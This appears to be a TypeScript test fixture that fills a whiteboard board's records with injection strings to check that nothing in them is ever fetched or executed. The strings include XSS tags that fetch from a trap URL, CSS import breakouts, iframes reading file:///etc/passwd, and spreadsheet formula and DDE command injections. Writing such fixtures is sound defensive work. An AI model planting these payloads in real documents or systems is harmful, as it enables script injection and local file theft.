import type { BoardRecord } from '../../shared/board/board-record.ts'
import {
  agencyRecord,
  barrierShape,
  commitmentShape,
  potShape,
  serviceShape,
  stageShape,
} from './map-records.ts'
import {
  bookmarkAsset,
  bookmarkShape,
  documentRecord,
  frameShape,
  geoShape,
  indexAt,
  noteShape,
  richText,
} from './records.ts'

/**
 * A board that an editor has filled with what would be fetched, run or read in, were any of it ever
 * taken for more than words. All of it is valid.
 * @param trap an address that nobody may ask for anything
 */
export function hostileBoard(trap: string): readonly BoardRecord[] {
  const words = [
    `<img src="${trap}/img" onerror="fetch('${trap}/handler')">`,
    `]]></text></svg><script>fetch('${trap}/script')</script>`,
    `</style><style>@import "${trap}/css"; * { background: url(${trap}/url) }</style>`,
    `<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>`,
    `=HYPERLINK("${trap}/cell";"x")`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `{{constructor}} $\{7*7} %n%s \u000b\ufffe\u202e "quoted" 'too'`,
  ].join(' ')
  const link = {
    type: 'link',
    attrs: { href: `${trap}/link`, class: 'tl-container', rel: 'opener' },
  }
  const linked = richText(words) as { content: { content: { marks?: unknown }[] }[] }
  for (const { content } of linked.content) for (const part of content) part.marks = [link]
  const card = bookmarkAsset('card')
  const picture = `data:image/svg+xml,${encodeURIComponent(
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${trap}/nested"/><style>@import "${trap}/nested-css";</style></svg>`,
  )}`
  const cardProps = {
    title: words,
    description: words,
    image: picture,
    favicon: picture,
    src: trap,
  }
  const text = { richText: richText(words) }
  const inFrame = (n: number) => ({
    index: indexAt(n),
    parentId: 'shape:slide',
    x: 40 * n,
    y: 30 * n,
  })
  return [
    documentRecord(words.slice(0, 1_900)),
    { ...card, props: cardProps } as BoardRecord,
    agencyRecord('council', { name: words, shortName: words.slice(0, 12), sector: words }),
    frameShape('slide', {
      index: indexAt(1),
      props: { w: 1_600, h: 1_200, name: words },
      meta: { notes: words },
    }),
    geoShape('geo', { ...inFrame(2), props: { ...text, url: `${trap}/url` } }),
    noteShape('note', { ...inFrame(3), props: { richText: linked } }),
    bookmarkShape('card', { ...inFrame(4), props: { assetId: 'asset:card', url: `${trap}/card` } }),
    serviceShape('service', {
      ...inFrame(5),
      props: {
        ...text,
        does: words,
        cohort: words,
        source: words,
        figureSource: words,
        questionSets: [words],
      },
    }),
    potShape('pot', { ...inFrame(6), props: { ...text, figureSource: words } }),
    stageShape('stage', {
      ...inFrame(7),
      props: { ...text, personDoes: words, personFeels: words },
    }),
    barrierShape('barrier', { ...inFrame(8), props: { ...text, ask: words, removedBy: words } }),
    commitmentShape('commitment', { ...inFrame(9), props: { ...text, owner: words } }),
  ]
}
